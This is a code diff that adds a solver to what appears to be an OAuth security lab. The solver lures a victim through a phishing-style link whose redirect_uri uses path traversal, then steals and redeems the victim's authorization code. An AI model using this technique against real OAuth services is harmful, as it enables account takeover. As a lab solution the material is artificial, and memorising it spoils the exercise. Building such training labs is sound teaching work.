@@ -1,6 +1,6 @@
 import { codeIn } from '../../bike-shop.ts';
 import type { Participant } from '../../solver.ts';
-import { labSolver } from '../attack-and-defend.ts';
+import { codeOfVictim, labSolver, readBy } from '../attack-and-defend.ts';
 import { logInAtShop, redeemAtShop, shopRequest } from '../lab-shop.ts';
 
 /** A sign-in at the registered address, and a visit to the page of Mallory that brings no code of it. */
@@ -18,4 +18,19 @@ async function refused(by: Participant): Promise<void> {
   }
 }
 
-export const solver = labSolver({ first: 'link', honest, refused });
+/** The page of Mallory, with a link that has this redirect_uri, and the code that came to it. */
+async function lure(by: Participant, redirect_uri: string): Promise<void> {
+  const href = `${by.issuer}/oauth2/authorize?${shopRequest({ redirect_uri })}`;
+  await by.attack('victim', `<p>Win a bike</p><a href="${href}">Go</a>`);
+  await readBy(by, await codeOfVictim(by), { redirect_uri });
+}
+
+export const solver = labSolver({
+  first: 'link',
+  honest,
+  refused,
+  goal: {
+    solve: by => lure(by, `${by.issuer}/labs/shop/../evil`),
+    nearMisses: { "a sign-in of one's own as Alice": { does: honest } },
+  },
+});
